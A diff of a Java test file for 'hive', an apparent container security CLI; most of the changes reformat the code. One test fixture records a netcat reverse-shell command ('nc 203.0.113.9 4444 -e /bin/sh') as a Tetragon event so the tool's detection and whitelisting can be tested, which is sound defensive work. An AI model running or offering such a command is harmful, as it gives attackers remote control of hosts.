@@ -19,13 +19,11 @@ import org.junit.jupiter.params.provider.ValueSource;
 /** The command as a user meets it, with good input and bad. */
 final class HiveCommandTest {
     /** A shell in a container connects to an outside host, in Tetragon's form; written for this test. */
-    private static final String NC =
-            """
+    private static final String NC = """
             {"process_exec":{"process":{"exec_id":"b","pid":11,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"203.0.113.9 4444 -e /bin/sh","start_time":"2026-01-02T03:04:05Z","docker":"c0ffee","pod":{"namespace":"shop","name":"web-1","container":{"id":"containerd://c0ffee","name":"web","image":{"id":"sha256:00","name":"web:1"}}},"parent_exec_id":"a"},"parent":{"exec_id":"a","pid":10,"binary":"/bin/bash","arguments":"","start_time":"2026-01-02T03:04:04Z"}},"node_name":"n","time":"2026-01-02T03:04:05Z"}
             """;
 
-    private static final String LS =
-            """
+    private static final String LS = """
             {"type":"process_started","time":"2026-01-02T03:04:05Z","process":{"pid":5,"executable":"/bin/ls","arguments":["ls"]}}
             """;
 
@@ -38,7 +36,16 @@ final class HiveCommandTest {
         assertThat(run.status()).isZero();
         assertThat(run.out())
                 .contains(
-                        "demo", "scan", "watch", "inspect", "jvm", "profile", "respond", "whitelist", "rules", "console");
+                        "demo",
+                        "scan",
+                        "watch",
+                        "inspect",
+                        "jvm",
+                        "profile",
+                        "respond",
+                        "whitelist",
+                        "rules",
+                        "console");
     }
 
     @ParameterizedTest
@@ -53,7 +60,8 @@ final class HiveCommandTest {
     void watch_reverseShell_isOneAlertWithContainerProcessTargetAndTree() throws IOException {
         Run run = Run.hive("watch", "--from", "tetragon", "--format", "jsonl", write("nc.jsonl", NC));
         assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
-        JsonNode alert = HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
+        JsonNode alert =
+                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
         assertThat(alert.path("type").asText()).isEqualTo("reverse_shell");
         assertThat(alert.path("container").path("pod").asText()).isEqualTo("web-1");
         assertThat(alert.path("process").path("executable").asText()).isEqualTo("/usr/bin/nc");
@@ -66,9 +74,7 @@ final class HiveCommandTest {
 
     @Test
     void watch_whitelist_silencesItAndSaysSo() throws IOException {
-        Path rules = write(
-                "trusted.json",
-                """
+        Path rules = write("trusted.json", """
                 {"version":1,"rules":[{"id":"nc","type":"reverse_shell","description":"our own drill","creator":"ann",
                  "created":"2026-01-02T00:00:00Z","conditions":{"processes":"nc","targetHosts":"203.0.113.0/24"}}]}
                 """);
@@ -77,7 +83,8 @@ final class HiveCommandTest {
         assertThat(quiet.status()).isZero();
         assertThat(quiet.out()).isEmpty();
         Run shown = Run.hive("watch", "--whitelist", rules, "--show-whitelisted", "--format", "jsonl", events);
-        JsonNode alert = HiveModule.mapper().readTree(shown.out().lines().findFirst().orElseThrow());
+        JsonNode alert =
+                HiveModule.mapper().readTree(shown.out().lines().findFirst().orElseThrow());
         assertThat(alert.path("whitelisted").path("rule").asText()).isEqualTo("nc");
         assertThat(alert.path("whitelisted").path("reason").asText()).isEqualTo("our own drill");
     }
@@ -93,9 +100,11 @@ final class HiveCommandTest {
 
     @Test
     void watch_lineOfManyMegabytes_isCountedAndTheRestIsRead() throws IOException {
-        Run run = Run.hive(
-                "watch", "--from", "hive", write("long.jsonl", LS + "x".repeat(64 << 20) + "\n" + LS));
-        assertThat(run.err()).contains("long.jsonl:2: ").contains("\"understood\":2").contains("\"malformed\":1");
+        Run run = Run.hive("watch", "--from", "hive", write("long.jsonl", LS + "x".repeat(64 << 20) + "\n" + LS));
+        assertThat(run.err())
+                .contains("long.jsonl:2: ")
+                .contains("\"understood\":2")
+                .contains("\"malformed\":1");
         assertOneLineEach(run);
     }
 
@@ -122,9 +131,7 @@ final class HiveCommandTest {
 
     @Test
     void watch_badWhitelist_isRefusedWithFileRuleAndField() throws IOException {
-        Path rules = write(
-                "bad.json",
-                """
+        Path rules = write("bad.json", """
                 {"version":1,"rules":[{"id":"nc","type":"reverse_shell","creator":"ann",
                  "created":"2026-01-02T00:00:00Z","conditions":{"targetPorts":"70000"}}]}
                 """);
@@ -137,7 +144,9 @@ final class HiveCommandTest {
     void scan_specimens_areFoundAndTheHarmlessOneIsNot() throws IOException {
         for (var sample : DemoSamples.all()) {
             Content content = sample.content();
-            String name = sample.name().startsWith("org.") ? "LogFilter.class" : sample.name().replace('/', '-');
+            String name = sample.name().startsWith("org.")
+                    ? "LogFilter.class"
+                    : sample.name().replace('/', '-');
             Files.write(folder.resolve(name), content.read(1 << 20));
         }
         Run run = Run.hive("scan", "--format", "jsonl", folder);
@@ -166,8 +175,7 @@ final class HiveCommandTest {
     void scan_missingPathOrUnknownEngine_isOneClearLine() {
         Path missing = folder.resolve("missing");
         assertRefused(Run.hive("scan", missing), missing + ": no such file");
-        assertRefused(
-                Run.hive("scan", "--engine", "luck", folder), "--engine: one of memshell, webshell, not 'luck'");
+        assertRefused(Run.hive("scan", "--engine", "luck", folder), "--engine: one of memshell, webshell, not 'luck'");
     }
 
     @Test
@@ -198,7 +206,9 @@ final class HiveCommandTest {
     void rules_everyRule_isALine() {
         Run run = Run.hive("rules");
         assertThat(run.status()).isZero();
-        assertThat(run.out()).contains("malicious-command.shared-memory-program").contains("reverse-shell.");
+        assertThat(run.out())
+                .contains("malicious-command.shared-memory-program")
+                .contains("reverse-shell.");
     }
 
     @Test
@@ -210,7 +220,11 @@ final class HiveCommandTest {
                 HiveModule.mapper().readTree(folder.resolve("report.json").toFile());
         assertThat(report.path("alerts").findValuesAsText("type"))
                 .contains("reverse_shell", "web_backdoor", "memory_webshell", "escape_risk");
-        assertThat(report.path("whitelisted").get(0).path("whitelisted").path("reason").asText())
+        assertThat(report.path("whitelisted")
+                        .get(0)
+                        .path("whitelisted")
+                        .path("reason")
+                        .asText())
                 .contains("agreed with operations");
         assertThat(report.path("failures")).isEmpty();
     }
